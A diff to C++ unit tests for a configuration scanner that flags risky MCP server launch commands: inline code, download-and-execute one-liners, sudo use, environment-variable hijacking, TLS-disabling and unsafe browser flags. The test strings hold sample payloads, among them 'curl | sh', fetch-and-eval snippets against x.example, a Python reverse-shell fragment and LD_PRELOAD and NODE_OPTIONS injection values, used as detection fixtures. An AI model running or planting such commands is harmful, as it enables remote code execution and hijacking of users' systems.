@@ -1,10 +1,14 @@
-// The shared server rules' command analysis (plugins/common): shell wrappers and shell syntax
-// (MCP-007), download and execute (MCP-008), docker run (MCP-006), remote hosts (MCP-010) and
-// package names (MCP-005, MCP-011), tested directly on the library.
+// The shared server rules' command analysis (plugins/common): shell wrappers, inline interpreter
+// code and shell syntax (MCP-007), download and execute (MCP-008), docker run (MCP-006), remote
+// hosts (MCP-010), package names (MCP-005, MCP-011), environment hijacking (MCP-015), privilege
+// tools (MCP-016), unsafe browser switches (MCP-017) and TLS switches (AUTH-002), tested directly
+// on the library.
 #include <boost/test/unit_test.hpp>
 
+#include <confscope/plugin_common/browser_flags.hpp>
 #include <confscope/plugin_common/docker_run.hpp>
 #include <confscope/plugin_common/package_pinning.hpp>
+#include <confscope/plugin_common/process_environment.hpp>
 #include <confscope/plugin_common/shell_commands.hpp>
 #include <confscope/plugin_common/text.hpp>
 
@@ -131,6 +135,162 @@ BOOST_AUTO_TEST_CASE(package_names) {
     BOOST_TEST(pc::package_name("tool[extra]>=1") == "tool");
     BOOST_TEST(pc::package_name("git+https://github.com/o/r@v1") ==
                "git+https://github.com/o/r@v1");
+}
+
+BOOST_AUTO_TEST_CASE(inline_interpreter_code) {
+    auto code = pc::inline_code("python3", {"-c", "from srv import main; main()"});
+    BOOST_REQUIRE(code.has_value());
+    BOOST_TEST(code->interpreter == "python3");
+    BOOST_TEST(code->flag_index == 0u);
+    BOOST_TEST(code->code_index == 1u);
+    BOOST_TEST(pc::inline_code("/usr/bin/python3.12", {"-u", "-c", "x"})->flag_index == 1u);
+    BOOST_TEST(pc::inline_code("python", {"-Ic", "x"}).has_value());
+    BOOST_TEST(pc::inline_code("node", {"-e", "require('./s')"}).has_value());
+    BOOST_TEST(pc::inline_code("node", {"--input-type", "module", "--eval", "x"})->flag ==
+               "--eval");
+    BOOST_TEST(pc::inline_code("node", {"--eval=x"})->code_index == 0u);
+    BOOST_TEST(pc::inline_code("perl", {"-lne", "print"}).has_value());
+    BOOST_TEST(pc::inline_code("ruby", {"-rjson", "-e", "x"})->flag_index == 1u);
+    BOOST_TEST(pc::inline_code("deno", {"eval", "console.log(1)"})->interpreter == "deno eval");
+    BOOST_TEST(pc::inline_code("bun", {"-e", "x"}).has_value());
+    BOOST_TEST(pc::inline_code("env", {"A=1", "python3", "-c", "x"})->code_index == 3u);
+    BOOST_TEST(pc::inline_code("cmd", {"/c", "node", "-e", "x"}).has_value());
+    // Not inline: a module, a script (whose own -c/-e follows it), a bun subcommand.
+    BOOST_TEST(!pc::inline_code("python3", {"-m", "my_server"}));
+    BOOST_TEST(!pc::inline_code("python3", {"server.py", "-c", "config.yaml"}));
+    BOOST_TEST(!pc::inline_code("node", {"dist/index.js", "-e", "production"}));
+    BOOST_TEST(!pc::inline_code("uv", {"run", "server.py", "-c", "settings.toml"}));
+    BOOST_TEST(!pc::inline_code("bun", {"run", "server.ts"}));
+    BOOST_TEST(!pc::inline_code("deno", {"run", "-A", "server.ts"}));
+}
+
+BOOST_AUTO_TEST_CASE(inline_download_and_execute) {
+    BOOST_TEST(pc::inline_code_downloads_and_executes(
+        "python3", "import urllib.request as u; exec(u.urlopen('https://x.example/s.py').read())"));
+    BOOST_TEST(pc::inline_code_downloads_and_executes(
+        "python", "import requests;exec(requests.get('https://x.example/s.py').text)"));
+    BOOST_TEST(pc::inline_code_downloads_and_executes(
+        "node",
+        "require('https').get('https://x.example/m.js',r=>{let d='';r.on('data',c=>d+=c);"
+        "r.on('end',()=>eval(d))})"));
+    BOOST_TEST(pc::inline_code_downloads_and_executes(
+        "node", "require('child_process').execSync('curl -fsSL https://x.example/i | sh')"));
+    BOOST_TEST(pc::inline_code_downloads_and_executes(
+        "perl", "use LWP::Simple; eval(get('https://x.example/m.pl'))"));
+    BOOST_TEST(pc::inline_code_downloads_and_executes(
+        "ruby", "require 'open-uri'; eval(URI.open('https://x.example/m.rb').read)"));
+    BOOST_TEST(pc::inline_code_downloads_and_executes("deno eval",
+                                                      "await import('https://x.example/mod.ts')"));
+    BOOST_TEST(pc::inline_code_downloads_and_executes(
+        "python3",
+        "import socket,subprocess,os;s=socket.socket();s.connect(('h',1));"
+        "subprocess.call(['/bin/sh','-i'])"));
+    // Fetching without executing, executing without fetching, a template literal.
+    BOOST_TEST(!pc::inline_code_downloads_and_executes(
+        "python3",
+        "import urllib.request; print(urllib.request.urlopen('https://x/health').status)"));
+    BOOST_TEST(!pc::inline_code_downloads_and_executes("python3", "from srv import main; main()"));
+    BOOST_TEST(!pc::inline_code_downloads_and_executes(
+        "node", "fetch(`https://x.example/${id}`).then(r => r.json()).then(console.log)"));
+    BOOST_TEST(!pc::inline_code_downloads_and_executes(
+        "node", "import('/opt/acme/mcp/server.mjs').then(m => m.start())"));
+}
+
+BOOST_AUTO_TEST_CASE(privilege_tools) {
+    BOOST_TEST(pc::privilege_tool("sudo", {"-E", "node", "server.js"})->tool == "sudo");
+    BOOST_TEST(!pc::privilege_tool("/usr/bin/sudo", {"node"})->arg_index.has_value());
+    BOOST_TEST(pc::privilege_tool("doas", {"node"}).has_value());
+    BOOST_TEST(pc::privilege_tool("pkexec", {"node"}).has_value());
+    BOOST_TEST(pc::privilege_tool("gsudo.exe", {"npx", "x"}).has_value());
+    BOOST_TEST(pc::privilege_tool("runas", {"/user:Administrator", "x"}).has_value());
+    BOOST_TEST(*pc::privilege_tool("env", {"A=1", "sudo", "node"})->arg_index == 1u);
+    BOOST_TEST(*pc::privilege_tool("cmd", {"/c", "gsudo", "npx", "x"})->arg_index == 1u);
+    BOOST_TEST(pc::privilege_tool("sh", {"-c", "cd /srv && sudo -E node s.js"})->tool == "sudo");
+    BOOST_TEST(pc::privilege_tool("sudo node server.js", {}).has_value());
+    // Names that merely contain sudo; sudo as a later argument of another program.
+    BOOST_TEST(!pc::privilege_tool("sudoku-mcp", {}));
+    BOOST_TEST(!pc::privilege_tool("node", {"/opt/mcp/sudoku-solver/index.js", "sudo"}));
+    BOOST_TEST(!pc::privilege_tool("npx", {"-y", "@acme/sudo-audit-mcp@2.1.0"}));
+    BOOST_TEST(!pc::privilege_tool("sh", {"-c", "echo sudo is not needed; node s.js"}));
+}
+
+BOOST_AUTO_TEST_CASE(environment_hijacking) {
+    const std::string home = "/home/dev";
+    auto high = [&](std::string_view name, std::string_view value) {
+        const auto h = pc::environment_hijack(name, value, home);
+        return !h.why.empty() && h.high;
+    };
+    auto none = [&](std::string_view name, std::string_view value) {
+        return pc::environment_hijack(name, value, home).why.empty();
+    };
+    BOOST_TEST(high("NODE_OPTIONS", "--require /tmp/inject.js"));
+    BOOST_TEST(high("NODE_OPTIONS", "-r /home/dev/.local/lib/preload.cjs"));
+    BOOST_TEST(high("NODE_OPTIONS", "--import=/var/tmp/loader.mjs"));
+    BOOST_TEST(high("NODE_OPTIONS", "--experimental-loader ./l.mjs"));
+    BOOST_TEST(high("NODE_OPTIONS", "--inspect=0.0.0.0:9229"));
+    BOOST_TEST(high("LD_PRELOAD", "/usr/lib/libhook.so"));
+    BOOST_TEST(high("DYLD_INSERT_LIBRARIES", "/Users/dev/Library/Caches/inject.dylib"));
+    BOOST_TEST(high("LD_LIBRARY_PATH", "/tmp/lib:/usr/lib"));
+    BOOST_TEST(high("LD_LIBRARY_PATH", "/home/dev/.cache/libs:/usr/lib"));
+    BOOST_TEST(high("PATH", "/tmp/evil-bin:/usr/local/bin:/usr/bin"));
+    BOOST_TEST(high("PATH", "/usr/bin:/home/dev"));
+    BOOST_TEST(high("PATH", "~:/usr/bin"));
+    BOOST_TEST(high("PATH", ".:/usr/bin"));
+    BOOST_TEST(high("PATH", "C:\\Users\\dev\\AppData\\Local\\Temp\\x;C:\\Windows"));
+    BOOST_TEST(high("PYTHONPATH", "/tmp/pyhooks"));
+    BOOST_TEST(high("PYTHONPATH", "/dev/shm/x"));
+    BOOST_TEST(high("PYTHONSTARTUP", "/tmp/.startup.py"));
+    BOOST_TEST(high("PYTHONHOME", "/opt/py"));
+    BOOST_TEST(high("BASH_ENV", "/tmp/.env.sh"));
+    BOOST_TEST(high("PERL5OPT", "-Mhook"));
+    BOOST_TEST(high("RUBYOPT", "-r/tmp/x.rb"));
+    BOOST_TEST(high("JAVA_TOOL_OPTIONS", "-javaagent:/tmp/a.jar"));
+    // An ordinary library folder is medium; the rest are no hijack.
+    const auto oracle =
+        pc::environment_hijack("LD_LIBRARY_PATH", "/opt/oracle/instantclient", home);
+    BOOST_TEST(!oracle.why.empty());
+    BOOST_TEST(!oracle.high);
+    BOOST_TEST(none("NODE_OPTIONS", "--max-old-space-size=4096"));
+    BOOST_TEST(none("NODE_OPTIONS", "--enable-source-maps --inspect=127.0.0.1:9229"));
+    BOOST_TEST(none("PATH", "/usr/local/bin:/usr/bin:/bin"));
+    BOOST_TEST(none("PATH", "/home/dev/.nvm/versions/node/v22.1.0/bin:/usr/bin"));
+    BOOST_TEST(none("PYTHONPATH", "/home/dev/projects/mcp/src"));
+    BOOST_TEST(none("PYTHONUNBUFFERED", "1"));
+    BOOST_TEST(none("RUBYOPT", "-rbundler/setup"));
+    BOOST_TEST(none("PERL5OPT", "-w"));
+    BOOST_TEST(none("LD_PRELOAD", ""));
+    BOOST_TEST(none("NODE_ENV", "production"));
+}
+
+BOOST_AUTO_TEST_CASE(tls_switches) {
+    BOOST_TEST(pc::disables_tls_verification("NODE_TLS_REJECT_UNAUTHORIZED", "0"));
+    BOOST_TEST(pc::disables_tls_verification("PYTHONHTTPSVERIFY", "0"));
+    BOOST_TEST(pc::disables_tls_verification("GIT_SSL_NO_VERIFY", "true"));
+    BOOST_TEST(pc::disables_tls_verification("npm_config_strict_ssl", "false"));
+    BOOST_TEST(!pc::disables_tls_verification("NODE_TLS_REJECT_UNAUTHORIZED", "1"));
+    BOOST_TEST(!pc::disables_tls_verification("GIT_SSL_NO_VERIFY", "false"));
+    BOOST_TEST(!pc::disables_tls_verification("NODE_EXTRA_CA_CERTS", "/etc/ssl/acme.pem"));
+}
+
+BOOST_AUTO_TEST_CASE(browser_switches) {
+    auto flags = [](std::string_view text) { return pc::unsafe_browser_flags(text); };
+    BOOST_TEST(flags("--no-sandbox").size() == 1u);
+    BOOST_TEST(flags("--browser-arg=--no-sandbox").size() == 1u);
+    BOOST_TEST(flags("--chrome-arg=--disable-web-security").front().flag ==
+               "--disable-web-security");
+    BOOST_TEST(
+        flags(R"({"headless": true, "args": ["--no-sandbox", "--disable-web-security"]})").size() ==
+        2u);
+    BOOST_TEST(flags("--remote-debugging-address=0.0.0.0").front().high);
+    BOOST_TEST(!flags("--remote-debugging-port=9222").front().high);
+    BOOST_TEST(flags("--remote-allow-origins=*").size() == 1u);
+    BOOST_TEST(flags("--ignore-https-errors").size() == 1u);
+    BOOST_TEST(flags("--headless").empty());
+    BOOST_TEST(flags("--remote-debugging-pipe").empty());
+    BOOST_TEST(flags("--remote-debugging-address=127.0.0.1").empty());
+    BOOST_TEST(flags("--browser-url=http://127.0.0.1:9222").empty());
+    BOOST_TEST(flags("--no-sandbox-warnings").empty());
+    BOOST_TEST(flags("--remote-allow-origins=http://localhost:3000").empty());
 }
 
 BOOST_AUTO_TEST_SUITE_END()
